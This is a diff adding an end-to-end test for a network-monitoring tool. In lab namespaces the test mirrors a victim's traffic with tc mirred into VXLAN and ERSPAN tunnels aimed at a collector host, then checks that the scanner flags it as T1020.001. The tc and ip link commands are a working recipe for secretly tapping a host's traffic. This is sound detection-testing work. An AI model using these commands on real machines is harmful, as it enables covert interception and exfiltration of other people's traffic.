@@ -1,0 +1,208 @@
+// End to end: traffic mirroring (T1020.001) with the real kernel. On the
+// namespace LAN the victim's own traffic is copied with tc mirred into a
+// VXLAN (and, where the kernel has it, ERSPAN) device whose remote is a
+// collector host; the bridge capture is scanned. Benign counterpart: a plain
+// VXLAN overlay between two hosts, traffic both ways. Needs root; see README.md.
+
+import { test, after, type TestContext } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Finding } from '../../src/findings/finding.js';
+import { severityRank } from '../../src/findings/finding.js';
+import { runCli, type CliRun } from '../helpers/cli.js';
+import { canRunNetns, createLan, UPSTREAM, VICTIM, type HostSpec, type Lan } from '../helpers/netns-lan.js';
+
+const KEEP = process.env.SNIFFWATCH_E2E_KEEP === '1';
+const COLLECTOR: HostSpec = { name: 'collector', ip: '198.18.0.30', mac: '02:53:57:00:00:1e' };
+const PEER: HostSpec = { name: 'peer', ip: '198.18.0.31', mac: '02:53:57:00:00:1f' };
+/** Overlay addresses of the benign VXLAN, inside 198.18.0.0/15 but apart from the LAN and upstream subnets. */
+const OVERLAY_VICTIM = '198.19.42.1';
+const OVERLAY_PEER = '198.19.42.2';
+const VNI = '42';
+
+const workDir = mkdtempSync(join(tmpdir(), 'sniffwatch-e2e-mirror-'));
+let keepWorkDir = KEEP;
+after(() => {
+  if (keepWorkDir) console.error(`# e2e captures kept in ${workDir}`);
+  else rmSync(workDir, { recursive: true, force: true });
+});
+
+function scan(pcap: string, config?: string): CliRun {
+  const args = ['scan', '--format', 'jsonl', '--min-severity', 'info', '--fail-on', 'none'];
+  if (config) args.push('--config', config);
+  const r = runCli([...args, pcap], 60_000);
+  assert.equal(r.status, 0, `scan failed (${r.status}): ${r.stderr}`);
+  return r;
+}
+
+function summary(findings: readonly Finding[]): string {
+  return findings.map((f) => `${f.severity} ${f.rule_id}: ${f.message} ${JSON.stringify(f.entities)}`).join('\n');
+}
+
+function t1020(findings: readonly Finding[]): Finding[] {
+  return findings.filter((f) => f.attack.techniques.includes('T1020.001'));
+}
+
+function hasEntity(f: Finding, value: string, role: string): boolean {
+  return f.entities.some((e) => e.type === 'ip' && e.value === value && e.role === role);
+}
+
+/** Packets in the capture matching a tcpdump filter, counted by tcpdump itself so the check does not rely on our decoder. */
+function countPackets(pcap: string, filter: string): number {
+  const out = execFileSync('tcpdump', ['-n', '-r', pcap, filter], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
+  return out.split('\n').filter((l) => l.trim()).length;
+}
+
+/** Runs assertions that need the capture; on failure keeps it and says where it is. */
+async function withPcap(t: TestContext, pcap: string, fn: () => void | Promise<void>): Promise<void> {
+  try {
+    await fn();
+  } catch (e) {
+    keepWorkDir = true;
+    t.diagnostic(`capture: ${pcap}`);
+    console.error(`# ${t.name}: capture kept at ${pcap}`);
+    throw e;
+  }
+}
+
+async function freshLan(t: TestContext): Promise<Lan | undefined> {
+  const why = await canRunNetns(['tc']);
+  if (why) {
+    t.skip(why);
+    return undefined;
+  }
+  const lan = await createLan({ extraHosts: [COLLECTOR, PEER] });
+  t.after(() => lan.destroy());
+  return lan;
+}
+
+/** Creates a tunnel device on a host; returns why the kernel refused it (for a skip), or undefined. */
+async function addDevice(lan: Lan, host: string, argv: string[]): Promise<string | undefined> {
+  const r = await lan.exec(host, ['ip', 'link', 'add', ...argv], { okCodes: [0, 1, 2] });
+  if (r.code !== 0) return `kernel refused 'ip link add ${argv.join(' ')}': ${r.stderr.trim().split('\n')[0]}`;
+  await lan.exec(host, ['ip', 'link', 'set', argv[0]!, 'up']);
+  return undefined;
+}
+
+/**
+ * Copies what the victim's eth0 receives and sends into `device`, the way an
+ * intruder with root on a host (or on its hypervisor) taps it. The tunnel's
+ * own packets also leave through eth0 and must not be copied again, and this
+ * kernel may lack the gact "pass" action and matchall, so egress copies only
+ * ARP, ICMP and TCP (u32 matches); ingress copies everything.
+ */
+async function mirrorInto(lan: Lan, device: string): Promise<void> {
+  const tc = (args: string[], okCodes = [0]): ReturnType<Lan['exec']> => lan.exec('victim', ['tc', 'filter', 'add', 'dev', 'eth0', ...args], { okCodes });
+  const mirror = ['action', 'mirred', 'egress', 'mirror', 'dev', device];
+  await lan.exec('victim', ['tc', 'qdisc', 'add', 'dev', 'eth0', 'clsact']);
+  const matchall = await tc(['ingress', 'prio', '1', 'matchall', ...mirror], [0, 1, 2]);
+  if (matchall.code !== 0) await tc(['ingress', 'prio', '1', 'u32', 'match', 'u32', '0', '0', ...mirror]);
+  await tc(['egress', 'protocol', 'arp', 'prio', '1', 'u32', 'match', 'u32', '0', '0', ...mirror]);
+  for (const proto of ['1', '6']) await tc(['egress', 'protocol', 'ip', 'prio', '2', 'u32', 'match', 'ip', 'protocol', proto, '0xff', ...mirror]);
+}
+
+/** The victim talks to the upstream host through the gateway: both directions cross its eth0. */
+async function victimTraffic(lan: Lan): Promise<void> {
+  await lan.exec('victim', ['ping', '-n', '-c', '8', '-i', '0.3', UPSTREAM.ip], { timeoutMs: 20_000 });
+}
+
+async function mirrorRun(t: TestContext, name: string, device: string[]): Promise<string | undefined> {
+  const lan = await freshLan(t);
+  if (!lan) return undefined;
+  const refused = await addDevice(lan, 'victim', device);
+  if (refused) {
+    t.skip(refused);
+    return undefined;
+  }
+  const pcap = join(workDir, `${name}.pcap`);
+  const cap = await lan.startCapture(pcap);
+  await mirrorInto(lan, device[0]!);
+  await victimTraffic(lan);
+  await cap.stop();
+  return pcap;
+}
+
+test('VXLAN mirror of the victim to a collector is T1020.001 naming the collector; allowed in config it is not', { timeout: 90_000 }, async (t) => {
+  const pcap = await mirrorRun(t, 'vxlan-mirror', ['vx0', 'type', 'vxlan', 'id', VNI, 'remote', COLLECTOR.ip, 'dstport', '4789', 'dev', 'eth0']);
+  if (!pcap) return;
+  await t.test('capture holds VXLAN from the victim to the collector', (st) =>
+    withPcap(st, pcap, () => {
+      assert.ok(countPackets(pcap, `udp dst port 4789 and src host ${VICTIM.ip} and dst host ${COLLECTOR.ip}`) >= 8, 'too few mirrored packets');
+    }),
+  );
+  await t.test('scan reports T1020.001 with the collector and the mirroring host', (st) =>
+    withPcap(st, pcap, () => {
+      const r = scan(pcap);
+      const hit = t1020(r.findings).find((f) => hasEntity(f, COLLECTOR.ip, 'collector'));
+      assert.ok(hit, `no T1020.001 finding naming collector ${COLLECTOR.ip}:\n${summary(r.findings)}`);
+      assert.equal(hit.rule_id, 'mirror-tunnel-copies');
+      assert.equal(hit.severity, 'high');
+      assert.ok(hasEntity(hit, VICTIM.ip, 'source'), summary([hit]));
+      assert.ok(hasEntity(hit, UPSTREAM.ip, 'mirrored'), summary([hit]));
+      assert.ok(r.findings.some((f) => f.rule_id === 'tunnel-observed' && f.message.startsWith(`VXLAN ${VICTIM.ip} -> ${COLLECTOR.ip} (vni ${VNI})`)));
+    }),
+  );
+  await t.test('with mirror.collectors naming the collector, no T1020.001', (st) =>
+    withPcap(st, pcap, () => {
+      const config = join(workDir, 'allowed.yml');
+      writeFileSync(config, `mirror:\n  collectors: [${COLLECTOR.ip}]\n`);
+      const r = scan(pcap, config);
+      assert.deepEqual(t1020(r.findings), [], summary(t1020(r.findings)));
+    }),
+  );
+});
+
+test('ERSPAN mirror of the victim to a collector is T1020.001', { timeout: 90_000 }, async (t) => {
+  // Linux puts the GRE key in the ERSPAN session id field; `erspan 123` is the index.
+  const device = ['er0', 'type', 'erspan', 'seq', 'key', '100', 'local', VICTIM.ip, 'remote', COLLECTOR.ip, 'erspan_ver', '1', 'erspan', '123'];
+  const pcap = await mirrorRun(t, 'erspan-mirror', device);
+  if (!pcap) return;
+  await t.test('scan reports mirror-erspan-tzsp with the collector, the source and the session', (st) =>
+    withPcap(st, pcap, () => {
+      const r = scan(pcap);
+      const hit = t1020(r.findings).find((f) => f.rule_id === 'mirror-erspan-tzsp' && hasEntity(f, COLLECTOR.ip, 'collector'));
+      assert.ok(hit, `no mirror-erspan-tzsp finding naming ${COLLECTOR.ip}:\n${summary(r.findings)}`);
+      assert.ok(hasEntity(hit, VICTIM.ip, 'source'));
+      assert.ok(hit.entities.some((e) => e.role === 'session' && e.value.endsWith('session 100')), summary([hit]));
+    }),
+  );
+});
+
+test('a VXLAN overlay between two hosts with traffic both ways is benign', { timeout: 90_000 }, async (t) => {
+  const lan = await freshLan(t);
+  if (!lan) return;
+  for (const [host, remote, overlay] of [
+    ['victim', PEER.ip, OVERLAY_VICTIM],
+    ['peer', VICTIM.ip, OVERLAY_PEER],
+  ] as const) {
+    const refused = await addDevice(lan, host, ['vx0', 'type', 'vxlan', 'id', VNI, 'remote', remote, 'dstport', '4789', 'dev', 'eth0']);
+    if (refused) {
+      t.skip(refused);
+      return;
+    }
+    await lan.exec(host, ['ip', 'addr', 'add', `${overlay}/24`, 'dev', 'vx0']);
+  }
+  const pcap = join(workDir, 'vxlan-overlay.pcap');
+  const cap = await lan.startCapture(pcap);
+  await lan.exec('victim', ['ping', '-n', '-c', '6', '-i', '0.3', OVERLAY_PEER], { timeoutMs: 20_000 });
+  await lan.exec('peer', ['ping', '-n', '-c', '6', '-i', '0.3', OVERLAY_VICTIM], { timeoutMs: 20_000 });
+  await cap.stop();
+  await t.test('scan decodes the overlay in both directions and reports nothing medium or above', (st) =>
+    withPcap(st, pcap, () => {
+      assert.ok(countPackets(pcap, 'udp dst port 4789') >= 24, 'overlay traffic missing from the capture');
+      const r = scan(pcap);
+      const loud = r.findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));
+      assert.deepEqual(loud.map((f) => `${f.severity} ${f.rule_id}`), [], `benign overlay raised:\n${summary(loud)}`);
+      for (const [src, dst] of [
+        [VICTIM.ip, PEER.ip],
+        [PEER.ip, VICTIM.ip],
+      ]) {
+        const inventory = r.findings.find((f) => f.rule_id === 'tunnel-observed' && f.message.startsWith(`VXLAN ${src} -> ${dst} (vni ${VNI}): `));
+        assert.ok(inventory && /: ([1-9]\d*) inner frames? decoded$/.test(inventory.message), `overlay ${src} -> ${dst} not decoded:\n${summary(r.findings)}`);
+      }
+    }),
+  );
+});
